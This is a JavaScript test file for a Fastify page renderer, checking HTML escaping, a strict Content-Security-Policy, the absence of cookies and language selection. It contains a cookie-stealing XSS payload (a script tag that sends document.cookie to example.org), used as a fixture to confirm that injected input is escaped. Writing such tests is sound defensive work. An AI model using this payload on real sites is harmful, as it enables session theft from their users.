import { fastify } from 'fastify';
import { sendPage } from './send-page.js';
import { visitOf } from './visit.js';

const STRANGER = '<script>fetch("https://example.org/" + document.cookie)</script><p style="display:none">';

/** A page on which a stranger's words stand wherever words stand. */
async function sent(url = '/', language = 'vi') {
  const server = fastify();
  server.get('/', (request, reply) =>
    sendPage(reply, visitOf(request, 'thieu-van', STRANGER), {
      title: STRANGER,
      content: STRANGER,
      script: 'receipt',
    }),
  );
  const answer = await server.inject({ url, headers: { 'accept-language': language } });
  await server.close();
  return answer;
}

it('what somebody wrote is shown as text: it neither runs nor looks like anything', async () => {
  const { headers, body } = await sent();
  expect(body).toContain(
    '&lt;script&gt;fetch(&quot;https://example.org/&quot; + document.cookie)&lt;/script&gt;',
  );
  expect(body).not.toContain('<script>');
  expect(body.match(/<script[^>]*>/g)).toEqual([
    expect.stringMatching(/^<script type="module" src="\/app\/assets\/receipt-[\w-]+\.js">$/),
  ]);
  expect(body).not.toMatch(/<style|<[^>]* style=|<[^>]* on\w+=/);
  expect(headers['content-security-policy']).toBe(
    "default-src 'none'; style-src 'self'; script-src 'self'; font-src 'self'; img-src 'self'; " +
      "connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'",
  );
});

it('a page keeps no cookie, and is Vietnamese unless its reader says otherwise', async () => {
  const { headers, body } = await sent();
  expect(headers['set-cookie']).toBeUndefined();
  expect(body).toMatch(/^<!doctype html><html lang="vi">/);
  expect((await sent('/', 'en-GB,en;q=0.9')).body).toContain('<html lang="en">');
  expect((await sent('/?lang=vi', 'en-GB')).body).toContain('<html lang="vi">');
  expect((await sent('/', 'fr')).body).toContain('<html lang="vi">');
});

it('a language that was chosen goes along in every address, and no other does', async () => {
  expect((await sent('/?lang=en')).body).toContain('href="/public/thieu-van/thu-tuc?lang=en"');
  expect((await sent()).body).toContain('href="/public/thieu-van/thu-tuc"');
});
